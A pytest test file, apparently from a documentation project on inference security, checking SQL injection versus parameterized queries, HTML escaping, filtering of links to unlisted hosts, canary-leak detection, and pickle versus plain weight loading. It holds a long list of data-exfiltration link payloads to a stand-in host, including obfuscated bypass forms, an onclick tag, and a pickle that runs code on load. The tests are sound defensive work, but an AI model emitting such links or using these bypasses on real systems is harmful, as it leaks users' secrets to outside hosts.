"""Output that is executed, links, files: each produced and cured; torch reads weights and refuses the object."""

import array
import io
import json
import pickle
import struct

import pytest
import torch

from docs.inference.security import practice, untrusted

HOSTS = {"shop.example"}


def test_a_pasted_name_opens_the_table_and_a_parameter_does_not() -> None:
    assert untrusted.orders(untrusted.NAME, parameters=False) == ["pen", "pad"]
    assert untrusted.orders(untrusted.NAME, parameters=True) == []
    for parameters in (False, True):
        assert untrusted.orders("Ann", parameters=parameters) == ["pen"]


def test_escaped_text_holds_no_tag() -> None:
    reply = '<b onclick="x()">&</b>'
    assert reply in untrusted.page(reply, escaped=False)
    inner = untrusted.page(reply, escaped=True).removeprefix("<p>").removesuffix("</p>")
    assert "<" not in inner
    assert '"' not in inner


@pytest.mark.parametrize(
    "link",
    [
        "![x](https://out.example/p?d=secret)",
        "[x](https://out.example/secret)",
        "[x][1]\n\n[1]: https://out.example/secret",
        "<https://out.example/secret>",
        '<img src="https://out.example/secret">',
        "![x](//out.example/secret)",
        r"![x](\\out.example/secret)",
        r"![x](https:\\out.example/secret)",
        "![x](https:out.example/secret)",
        "![x](https://shop.example@out.example/secret)",
        "![x](https://shop.example.out.example/secret)",
        "![x](http://shop.example/secret)",
        "![x](HTTPS://OUT.example/secret)",
        "[x](javascript:secret)",
        "![x](data:text/html,secret)",
        "![x](https://[out.example/secret)",
        r"![x](https://out.example\@shop.example/secret)",
        "![x](&#47;&#47;out.example/secret)",
        "![x](https&amp;#58;&amp;#47;&amp;#47;out.example/secret)",
        r"[x](javascript\:secret)",
        r"![x](\/\/out.example/secret)",
        "www.out.example/secret",
        "WWW.out.example/secret",
        '<img src="/\t/out.example/secret">',
        '<img src="\\\n/out.example/secret">',
        '<img src="/\r/out.example/secret">',
    ],
)
def test_a_link_elsewhere_is_cut_in_every_form(link: str) -> None:
    shown = untrusted.shown(f"before {link} after", HOSTS)
    assert "[removed]" in shown
    assert "//out" not in shown.casefold()
    assert shown.startswith("before ")
    assert shown.endswith(" after")


def test_a_link_of_the_list_and_plain_text_stay() -> None:
    text = "Offer: ![a](https://shop.example/a?x=1) at 12:30, 3/4 of it. Awww.ful? See [b](/local)."
    assert untrusted.shown(text, HOSTS) == text


def test_a_canary_is_found_in_other_spelling_and_missed_in_other_words() -> None:
    for reply in ("It is amber-7421.", "AMBER 7421", "a m b e r 7 4 2 1"):
        assert untrusted.leaked(reply, "amber-7421")
    assert not untrusted.leaked("1247-rebma", "amber-7421")


def test_reading_a_pickle_runs_what_it_names() -> None:
    untrusted.RAN.clear()
    data = pickle.dumps(untrusted.Weights())
    assert untrusted.RAN == []
    pickle.loads(data)
    assert untrusted.RAN == ["code ran"]


def test_a_plain_file_gives_its_numbers_back_or_an_error() -> None:
    rows = {"w": [0.5, -1.0, 3.25], "b": [], "v": [7.0]}
    data = untrusted.save(rows)
    assert untrusted.load(data) == rows
    for broken in (data[:-8], data + bytes(8)):
        with pytest.raises(ValueError, match="does not fit"):
            untrusted.load(broken)
    header = json.dumps({"w": 3, "b": -1}).encode()
    body = array.array("d", [1.0, 2.0]).tobytes()
    with pytest.raises(ValueError, match="does not fit"):
        untrusted.load(struct.pack("<Q", len(header)) + header + body)


def test_the_plain_reader_calls_nothing_that_a_pickle_names() -> None:
    untrusted.RAN.clear()
    with pytest.raises((ValueError, struct.error)):
        untrusted.load(pickle.dumps(untrusted.Weights()))
    assert untrusted.RAN == []


def test_torch_reads_weights_and_refuses_the_object(capsys: pytest.CaptureFixture[str]) -> None:
    untrusted.RAN.clear()
    file = io.BytesIO()
    torch.save(untrusted.Weights(), file)
    file.seek(0)
    assert practice.read(file) is None
    assert untrusted.RAN == []
    practice.main()
    assert "-1.0000" in capsys.readouterr().out


def test_the_program_prints_both_readings(capsys: pytest.CaptureFixture[str]) -> None:
    untrusted.RAN.clear()
    untrusted.main()
    printed = capsys.readouterr().out
    assert "pasted: ['pen', 'pad'] handed over: []" in printed
    assert "![chart]([removed])" in printed
